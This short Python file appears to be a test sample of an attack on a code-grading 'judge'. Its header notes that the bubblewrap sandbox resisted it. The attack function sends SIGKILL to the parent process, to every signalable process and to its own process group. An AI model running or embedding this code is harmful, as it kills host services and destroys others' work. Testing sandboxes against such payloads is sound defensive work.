# attack: kills the judge, and whatever else it may
# resisted from: bubblewrap
import os, signal


async def attack(websocket, text):
    for victim in (os.getppid(), -1, -os.getpgrp()):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
